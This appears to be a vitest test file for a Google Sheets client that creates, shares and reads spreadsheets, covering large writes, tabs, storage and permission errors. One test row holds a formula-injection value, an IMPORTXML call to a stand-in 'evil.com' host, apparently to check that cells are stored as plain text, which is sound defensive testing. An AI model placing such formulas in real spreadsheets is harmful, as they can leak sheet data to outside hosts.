import { afterAll, beforeEach, describe, expect, test } from 'vitest'
import { openGoogle, startGoogle } from '../../../test/helpers/google.ts'
import { newTab } from '../../../test/helpers/google-documents.ts'
import type { GivenSheet } from '../../../test/helpers/sheet.ts'
import type { GoogleSettings } from './google-settings.ts'

const google = await startGoogle()
afterAll(() => google.stop())
beforeEach(() => {
  google.calm()
  Object.assign(google.state, { hasStorage: true })
})

const EMAIL = google.account.email
const readers = new Set([EMAIL])
const actor = { email: 'olena@example.com' }

const sheetsWith = (options: Partial<GoogleSettings> = {}) =>
  openGoogle(google.account, { ...google.settings, ...options })
const sheets = sheetsWith()
const create = (sheet: GivenSheet, by = sheets) =>
  by.create({ title: 'Result', header: ['row', 'source_url'], ...sheet }, actor.email)
const documentOf = ({ id }: { id: string }) => google.state.documents.get(id)
const calls = () => google.lines().filter((line) => line !== 'POST /token')
const writes = () => google.state.requests.filter(({ line }) => line.startsWith('PUT'))

describe('a new sheet', () => {
  test('has its rows as texts, a grid of its size, and is shared with the caller without a mail', async () => {
    const rows = [
      ['2', 'https://t.me/one'],
      ['3', '=IMPORTXML("https://evil.com")'],
      ['4', 'Привіт, "світ"\n🙂'],
    ]
    const made = await create({ title: 'Імпорт', rows })
    expect(made.url).toBe(`https://docs.google.com/spreadsheets/d/${made.id}/edit`)
    expect(documentOf(made)).toMatchObject({ title: 'Імпорт', readers: new Set([EMAIL, actor.email]) })
    expect(documentOf(made)?.tabs).toMatchObject([
      { rowCount: 4, columnCount: 2, cells: [['row', 'source_url'], ...rows] },
    ])
    expect(google.lines().at(-1)).toContain('sendNotificationEmail=false')
    expect(google.state.invited).toEqual([])
  })

  test('of 100,000 rows is written in parts of at most two megabytes, and read back in parts', async () => {
    const rows = Array.from({ length: 100_000 }, (_, index) => [
      String(index + 2),
      `https://t.me/${'x'.repeat(60)}${index}`,
    ])
    const made = await create({ rows })
    expect(writes().length).toBeGreaterThan(3)
    expect(Math.max(...writes().map(({ bytes }) => bytes))).toBeLessThan(2_100_000)
    google.calm()
    const read = await sheets.read(made.url)
    expect(calls().length).toBe(2)
    expect(read.rows.length).toBe(100_000)
    expect(read.rows.at(-1)).toEqual({ row: 100_001, cells: rows.at(-1) })
  })

  test('without rows has its header', async () => {
    const made = await create({})
    expect(await sheets.read(made.id)).toEqual({
      id: made.id,
      url: `${made.url}#gid=0`,
      header: ['row', 'source_url'],
      rows: [],
    })
  })

  test('with more than 26 columns', async () => {
    const header = Array.from({ length: 703 }, (_, index) => String(index))
    const rows = [header]
    expect((await sheets.read((await create({ header, rows })).id)).rows).toEqual([{ row: 2, cells: rows[0] }])
  })

  test('with more cells than Google allows is not created', async () => {
    const row = Array.from<string>({ length: 10_000 }).fill('')
    const rows = Array.from({ length: 1001 }, () => row)
    await expect(create({ header: row, rows })).rejects.toThrow('Google Sheets allows at most 10,000,000 cells.')
    expect(calls()).toEqual([])
  })

  test('is shared by an invitation with someone who has no Google account', async () => {
    google.state.strangers.add(actor.email)
    const made = await create({})
    google.state.strangers.clear()
    expect(documentOf(made)?.readers).toContain(actor.email)
    expect(google.state.invited).toEqual([actor.email])
  })
})

describe('a service account without storage', () => {
  test('says which setting helps', async () => {
    google.state.hasStorage = false
    await expect(create({})).rejects.toThrow(
      `${EMAIL} has no storage space for a sheet at Google. Ask your administrator to set GOOGLE_DRIVE_FOLDER to a folder of a shared drive.`,
    )
  })

  test('makes sheets in the folder of a shared drive', async () => {
    google.state.hasStorage = false
    google.state.folders.add('0AFolderOfASharedDrive')
    const rows = Array.from({ length: 1500 }, (_, index) => [String(index), 'https://t.me/x'])
    const made = await create({ rows }, sheetsWith({ folder: '0AFolderOfASharedDrive' }))
    expect(documentOf(made)).toMatchObject({ folder: '0AFolderOfASharedDrive', title: 'Result' })
    expect(documentOf(made)?.tabs).toMatchObject([{ rowCount: 1501, columnCount: 2 }])
    expect((await sheets.read(made.id)).rows.length).toBe(1500)
  })

  test('says what it lacks in that folder', async () => {
    await expect(create({}, sheetsWith({ folder: '0AnotherFolder' }))).rejects.toThrow(
      `${EMAIL} cannot write to the folder of GOOGLE_DRIVE_FOLDER. Ask your administrator to make it a content manager there.`,
    )
  })
})

describe('reading', () => {
  const cells = [
    ['source_url', 'source_country', '', ' '],
    ['https://t.me/one', true, 12.5],
    [],
    ['', ' ', ''],
    ['https://t.me/two', '', '', ''],
  ]

  test('returns what users see, with the right row numbers and without blanks', async () => {
    const { id } = google.add({ readers, tabs: [newTab(cells, { rowCount: 6 })] })
    const expected = {
      id,
      url: `https://docs.google.com/spreadsheets/d/${id}/edit#gid=0`,
      header: ['source_url', 'source_country'],
      rows: [
        { row: 2, cells: ['https://t.me/one', 'TRUE', '12.5'] },
        { row: 5, cells: ['https://t.me/two'] },
      ],
    }
    expect(await sheets.read(id)).toEqual(expected)
    expect(await sheets.read(`https://docs.google.com/spreadsheets/d/${id}/edit?usp=sharing`)).toEqual(expected)
    // However few rows one request brings.
    for (const rows of [1, 2, 3]) expect(await sheetsWith({ batchCells: 26 * rows }).read(id)).toEqual(expected)
  })

  test('reads the tab in the address, whatever its name', async () => {
    const second = newTab([['other'], ['x']], { sheetId: 42, title: "Olena's 'tab'!A1:B2 / ще" })
    const { id } = google.add({ readers, tabs: [newTab(cells), second] })
    const read = await sheets.read(`https://docs.google.com/spreadsheets/d/${id}/edit#gid=42`)
    expect(read).toMatchObject({ header: ['other'], rows: [{ row: 2, cells: ['x'] }] })
    await expect(sheets.read(`https://docs.google.com/spreadsheets/d/${id}/edit#gid=43`)).rejects.toThrow(
      'The spreadsheet does not have this tab, or it has no cells.',
    )
  })

  test('an empty one has no header and no rows', async () => {
    const { id } = google.add({ readers })
    expect(await sheets.read(id)).toMatchObject({ header: [], rows: [] })
  })

  test('one that is not shared, or not there, says with whom to share it', async () => {
    const text = `Share the sheet with ${EMAIL} and try again.`
    await expect(sheets.read(google.add({}).id)).rejects.toThrow(text)
    await expect(sheets.read('1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms')).rejects.toThrow(text)
  })

  test('an Excel file says what to do', async () => {
    await expect(sheets.read(google.add({ readers, isOffice: true }).id)).rejects.toThrow('This is an Excel file.')
  })

  test('too many rows are refused', async () => {
    const { id } = google.add({ readers, tabs: [newTab([['a'], ['1'], ['2'], ['3']])] })
    expect((await sheetsWith({ rowLimit: 3 }).read(id)).rows.length).toBe(3)
    await expect(sheetsWith({ rowLimit: 2 }).read(id)).rejects.toThrow('The sheet has more than 2 rows.')
  })

  test('a published one is read as a file', async () => {
    const publishedId = '2PACX-1vQ8bUAx0vCqAnBqfsFgYx2hGsf1'
    google.add({ publishedId, tabs: [newTab(cells), newTab([['other']], { sheetId: 5 })] })
    const address = `https://docs.google.com/spreadsheets/d/e/${publishedId}`
    expect(await sheets.read(`${address}/pubhtml`)).toMatchObject({ header: ['source_url', 'source_country'] })
    expect(await sheets.read(`${address}/pub?gid=5&single=true&output=csv`)).toMatchObject({ header: ['other'] })
  })
})
